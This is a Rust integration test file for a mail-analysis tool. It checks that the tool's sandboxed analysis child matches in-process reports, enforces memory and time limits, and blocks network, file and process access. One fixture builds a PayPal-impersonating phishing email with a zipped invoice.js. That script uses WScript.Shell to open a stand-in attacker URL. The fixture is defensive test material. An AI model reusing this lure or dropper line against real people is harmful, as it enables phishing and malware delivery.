//! The sandboxed analysis child, through the real binary: what the sandbox refuses on this
//! kernel (`analysis-sandbox --probe`, with a control run that shows the probe can see
//! success), reports equal to in-process ones, and the memory and time limits ending in a
//! report that says so while the next message is analysed normally.
//!
//! Messages go in with `import`, are analysed by `worker --until-idle` (the same `Worker` and
//! analyst `serve` uses, one analysis child) and read back with `messages report`.
//! Authentication is off: nothing here touches the network.

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_spamhattan"));
    // Only what the test sets: no SPAMHATTAN_* from the environment.
    c.env_clear().env("PATH", "/usr/bin:/bin");
    c
}

fn ok(out: Output, what: &str) -> Output {
    assert!(
        out.status.success(),
        "{what} failed: {:?}\nstdout: {}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// A data directory with a config whose `[analysis.sandbox]` section is `sandbox`.
struct Trap {
    dir: tempfile::TempDir,
}

impl Trap {
    fn new(sandbox: &str) -> std::io::Result<Trap> {
        let dir = tempfile::tempdir()?;
        std::fs::write(
            dir.path().join("spamhattan.toml"),
            format!(
                "[analysis]\nworkers = 1\n[analysis.auth]\nenabled = false\n\
                 [analysis.sandbox]\n{sandbox}\n"
            ),
        )?;
        Ok(Trap { dir })
    }

    fn common(&self, c: &mut Command) {
        c.arg("--config")
            .arg(self.dir.path().join("spamhattan.toml"))
            .arg("--data-dir")
            .arg(self.dir.path().join("data"));
    }

    /// Imports messages (in this order) and returns their ids.
    fn import(&self, messages: &[Vec<u8>]) -> std::io::Result<Vec<String>> {
        let mut paths = Vec::new();
        for (i, raw) in messages.iter().enumerate() {
            let p = self.dir.path().join(format!("m{i:03}.eml"));
            std::fs::write(&p, raw)?;
            paths.push(p);
        }
        let mut c = bin();
        c.arg("import");
        self.common(&mut c);
        ok(c.args(&paths).output()?, "import");
        Ok(messages
            .iter()
            .map(|m| model::MessageId::of(m).to_hex())
            .collect())
    }

    /// `worker --until-idle`; returns its stderr (the log).
    fn work(&self) -> std::io::Result<String> {
        let mut c = bin();
        c.arg("worker");
        self.common(&mut c);
        let out = ok(c.arg("--until-idle").output()?, "worker --until-idle");
        Ok(String::from_utf8_lossy(&out.stderr).into_owned())
    }

    fn report(&self, id: &str) -> std::io::Result<Value> {
        let mut c = bin();
        c.args(["messages", "report"]);
        self.common(&mut c);
        let out = ok(c.arg(id).output()?, "messages report");
        Ok(serde_json::from_slice(&out.stdout)?)
    }
}

/// A dropper: an HTML body with links and a zip holding a script.
fn dropper() -> Vec<u8> {
    let mut zip = Vec::new();
    {
        // A stored zip written by hand: one entry, no compression.
        let name = b"invoice.js";
        let data = b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c start http://dl.evil.example/x');";
        let crc = crc32(data);
        let mut local = Vec::new();
        local.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x21\x00");
        local.extend_from_slice(&crc.to_le_bytes());
        local.extend_from_slice(&(data.len() as u32).to_le_bytes());
        local.extend_from_slice(&(data.len() as u32).to_le_bytes());
        local.extend_from_slice(&(name.len() as u16).to_le_bytes());
        local.extend_from_slice(&0u16.to_le_bytes());
        local.extend_from_slice(name);
        local.extend_from_slice(data);
        let mut central = Vec::new();
        central.extend_from_slice(b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x00\x00\x00\x00\x21\x00");
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0; 12]);
        central.extend_from_slice(&0u32.to_le_bytes());
        central.extend_from_slice(name);
        zip.extend_from_slice(&local);
        let cd_at = zip.len() as u32;
        zip.extend_from_slice(&central);
        zip.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00");
        zip.extend_from_slice(&(central.len() as u32).to_le_bytes());
        zip.extend_from_slice(&cd_at.to_le_bytes());
        zip.extend_from_slice(&0u16.to_le_bytes());
    }
    let mut m = b"From: \"PayPal\" <billing@paypa1-secure.example>\r\nTo: victim@trap.example\r\n\
        Subject: Your invoice 4821 is overdue\r\nMIME-Version: 1.0\r\n\
        Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
        <p>Dear customer, <a href=\"http://paypa1-secure.example/login?id=1\">verify your \
        account</a> or see <a href=\"https://bit.ly/3xYz\">the invoice</a>.</p>\r\n--b\r\n\
        Content-Type: application/zip; name=\"invoice.zip\"\r\n\
        Content-Disposition: attachment; filename=\"invoice.zip\"\r\n\
        Content-Transfer-Encoding: base64\r\n\r\n"
        .to_vec();
    m.extend_from_slice(base64(&zip).as_bytes());
    m.extend_from_slice(b"\r\n--b--\r\n");
    m
}

fn plain(n: usize) -> Vec<u8> {
    format!(
        "From: news{n}@garden.example\r\nSubject: weekly garden news {n}\r\n\r\n\
         Tulips bloom in spring and roses in summer, says the garden club newsletter {n}.\r\n"
    )
    .into_bytes()
}

/// A message whose analysis needs more memory than `memory_limit_mb = 256` allows: a 44 MiB
/// attachment in base64, 63 MB of raw message (the store keeps up to 64 MiB). The child holds
/// the raw message and the decoded attachment at least, on top of its engine (about 160 MiB
/// of address space in a debug build).
fn memory_hog() -> Vec<u8> {
    let payload: Vec<u8> = (0..44u32 << 20)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let mut m = b"From: a@big.example\r\nSubject: big\r\nMIME-Version: 1.0\r\n\
        Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee\r\n\
        --b\r\nContent-Type: application/octet-stream; name=\"blob.bin\"\r\n\
        Content-Transfer-Encoding: base64\r\n\r\n"
        .to_vec();
    for chunk in base64(&payload).as_bytes().chunks(76) {
        m.extend_from_slice(chunk);
        m.extend_from_slice(b"\r\n");
    }
    m.extend_from_slice(b"--b--\r\n");
    m
}

fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len() / 3 * 4 + 4);
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        out.push(A[(n >> 18) as usize & 63] as char);
        out.push(A[(n >> 12) as usize & 63] as char);
        out.push(if c.len() > 1 {
            A[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if c.len() > 2 {
            A[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A report without what varies from run to run (the engine's elapsed time).
fn stable(mut report: Value) -> Value {
    if let Some(b) = report.get_mut("budget").and_then(Value::as_object_mut) {
        b.remove("elapsed_us");
    }
    report
}

fn anomalies(report: &Value) -> Vec<String> {
    report["anomalies"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|x| {
                    format!(
                        "{} {}",
                        x["kind"].as_str().unwrap_or(""),
                        x["detail"].as_str().unwrap_or("")
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// Real mail from the shared phishing corpus when it is there (CI has it), plus our own.
fn corpus() -> Vec<Vec<u8>> {
    let mut out = vec![dropper(), plain(1)];
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/phishing_pot");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
        .unwrap_or_default();
    files.sort();
    for f in files.into_iter().take(40) {
        if let Ok(raw) = std::fs::read(&f) {
            out.push(raw);
        }
    }
    out.sort();
    out.dedup();
    out
}

#[test]
fn a_sandboxed_child_reports_exactly_what_the_engine_reports_in_process() -> std::io::Result<()> {
    let messages = corpus();
    let inside = Trap::new("mode = \"required\"")?;
    let outside = Trap::new("mode = \"off\"")?;
    let ids = inside.import(&messages)?;
    outside.import(&messages)?;
    let log = inside.work()?;
    assert!(
        log.contains("analysis runs in sandboxed child processes"),
        "the child was sandboxed: {log}"
    );
    let log = outside.work()?;
    assert!(log.contains("analysis runs in-process"), "{log}");
    for id in &ids {
        let (a, b) = (stable(inside.report(id)?), stable(outside.report(id)?));
        assert_eq!(
            a, b,
            "message {id}: the sandboxed report differs from the in-process one"
        );
    }
    // The dropper was really analysed: the zip was opened and the script seen.
    let dropper = inside.report(&model::MessageId::of(&dropper()).to_hex())?;
    let text = dropper.to_string();
    assert!(text.contains("invoice.js"), "{text}");
    assert_ne!(
        dropper["verdict"]["class"], "unknown",
        "{}",
        dropper["verdict"]
    );
    Ok(())
}

#[test]
fn past_the_memory_limit_the_message_gets_a_report_saying_so_and_the_next_is_analysed()
-> std::io::Result<()> {
    let trap = Trap::new("mode = \"required\"\nmemory_limit_mb = 256")?;
    let hog = memory_hog();
    let ids = trap.import(&[hog.clone(), dropper()])?;
    let log = trap.work()?;
    let report = trap.report(&ids[0])?;
    assert_eq!(report["verdict"]["class"], "unknown");
    assert_eq!(report["size"], hog.len());
    let found = anomalies(&report);
    assert!(
        found.iter().any(|a| a
            .starts_with("budget-exceeded analysis process killed: memory limit 256 MiB exceeded")),
        "{found:?}\n{log}"
    );
    assert!(
        log.contains("memory limit 256 MiB exceeded"),
        "a WARN line: {log}"
    );
    // The same worker's next child analyses the next message in full.
    let next = trap.report(&ids[1])?;
    assert_ne!(next["verdict"]["class"], "unknown", "{}", next["verdict"]);
    assert!(
        anomalies(&next)
            .iter()
            .all(|a| !a.contains("analysis process"))
    );
    Ok(())
}

#[test]
fn past_the_time_limit_the_child_is_killed_and_the_report_says_so() -> std::io::Result<()> {
    let trap = Trap::new("mode = \"required\"\ntime_limit_ms = 1")?;
    // Megabytes of text with links: milliseconds of work at least.
    let mut slow = b"From: a@slow.example\r\nSubject: slow\r\n\r\n".to_vec();
    for i in 0..40_000 {
        slow.extend_from_slice(
            format!("line {i} see http://host{i}.slow.example/path/{i}\r\n").as_bytes(),
        );
    }
    let ids = trap.import(&[slow])?;
    trap.work()?;
    let report = trap.report(&ids[0])?;
    assert_eq!(report["verdict"]["class"], "unknown");
    let found = anomalies(&report);
    assert!(
        found
            .iter()
            .any(|a| a
                .starts_with("budget-exceeded analysis process killed: time limit 1 ms exceeded")),
        "{found:?}"
    );
    Ok(())
}

/// Runs the probe; returns its JSON lines.
fn probe(
    extra: &[&str],
    listener: &std::net::TcpListener,
    dir: &Path,
) -> std::io::Result<(Output, Vec<Value>)> {
    let out = bin()
        .args(["analysis-sandbox", "--probe", "--connect"])
        .arg(listener.local_addr()?.to_string())
        .arg("--write-dir")
        .arg(dir)
        .args(extra)
        .output()?;
    let lines = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(serde_json::from_str)
        .collect::<Result<Vec<Value>, _>>()?;
    Ok((out, lines))
}

#[test]
fn the_sandbox_refuses_network_files_and_new_processes() -> std::io::Result<()> {
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    listener.set_nonblocking(true)?;
    let dir = tempfile::tempdir()?;
    let (out, lines) = probe(&[], &listener, dir.path())?;
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        lines.len(),
        2,
        "the exec was refused, so a second line follows: {lines:?}"
    );
    let p = &lines[0];
    assert_eq!(p["sandbox"]["seccomp"], true, "{p}");
    assert_eq!(p["sandbox"]["landlock_enforced"], true, "{p}");
    assert_eq!(p["sandbox"]["no_new_privs"], true, "{p}");
    assert_eq!(p["sandbox"]["missing"], serde_json::json!([]), "{p}");
    for what in ["connect", "write", "read", "spawn", "fork"] {
        assert_eq!(p[what]["succeeded"], false, "{what} must be refused: {p}");
    }
    assert_eq!(lines[1]["exec"]["succeeded"], false, "{}", lines[1]);
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the listener got no connection"
    );
    assert!(!dir.path().join("written-by-the-probe").exists());
    Ok(())
}

#[test]
fn without_the_sandbox_the_probe_sees_everything_succeed() -> std::io::Result<()> {
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    let dir = tempfile::tempdir()?;
    let (out, lines) = probe(&["--no-sandbox"], &listener, dir.path())?;
    assert!(out.status.success(), "{out:?}");
    // The probe became /bin/true: only the first line was printed.
    assert_eq!(lines.len(), 1, "{lines:?}");
    let p = &lines[0];
    for what in ["connect", "write", "read", "spawn", "fork"] {
        assert_eq!(p[what]["succeeded"], true, "{what} in the control run: {p}");
    }
    assert!(listener.accept().is_ok(), "the control run connected");
    assert!(dir.path().join("written-by-the-probe").exists());
    Ok(())
}
